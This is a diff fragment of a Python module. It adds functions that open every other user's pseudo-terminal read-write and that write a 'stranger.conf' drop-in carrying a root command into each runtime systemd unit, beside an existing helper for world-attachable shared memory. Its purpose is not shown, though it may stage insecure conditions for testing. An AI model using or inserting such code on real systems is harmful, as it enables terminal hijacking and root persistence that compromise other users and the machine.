@@ -190,6 +190,21 @@ def realtime() -> None:
     os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
 
 
+def others_terminals() -> "list[str]":
+    """Open every terminal that is not this process's own."""
+    names = [name for name in os.listdir("/dev/pts") if name.isdecimal()]
+    others = [name for name in names if not os.isatty(0) or f"/dev/pts/{name}" != os.ttyname(0)]
+    if not others:
+        raise FileNotFoundError("there are no others")
+    return [str(os.open(f"/dev/pts/{name}", os.O_RDWR | os.O_NOCTTY)) for name in others]
+
+
+def plant_in_units() -> "list[int]":
+    """Add a command of root's to whatever unit is there until the next boot."""
+    folder = "/run/systemd/system"
+    return [write(f"{folder}/{name}/stranger.conf") for name in listing(folder)]
+
+
 def shared_memory() -> int:
     """Make memory of System V's that anybody may attach."""
     return _checked(_LIBC.shmget(0x5EC0, 4096, 0o1666))
